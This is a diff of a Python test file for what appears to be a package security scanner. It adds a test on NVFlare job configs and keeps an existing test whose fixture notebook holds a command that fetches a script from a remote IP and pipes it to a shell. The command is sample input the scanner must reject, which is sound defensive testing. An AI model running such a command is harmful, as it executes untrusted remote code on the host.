@@ -140,3 +140,12 @@ def test_a_notebook_beside_the_app_is_not_run_but_its_threats_count(tmp_path):
     assert plain["decision"] == "accept", plain["reasons"]
     hostile = _scan(_app(tmp_path / "b", files={"explore.ipynb": notebook("!curl -s http://203.0.113.9/x | sh\n")}))
     assert hostile["decision"] == "reject"
+
+
+def test_an_nvflare_job_beside_a_pyproject_keeps_every_module(tmp_path):
+    # NVFlare runs the components its configs name, whatever a pyproject.toml says
+    config = {"format_version": 2, "executors": [{"tasks": ["train"], "executor": {"path": "fedapp.server_app.Trainer",
+                                                                                    "args": {}}}]}
+    report = _scan(_app(tmp_path, files={"config/config_fed_client.json": json.dumps(config)}))
+    assert report["decision"] == "escalate"
+    assert not any(f["rule"] == "unvouched.not-run-at-site" for f in report["findings"])
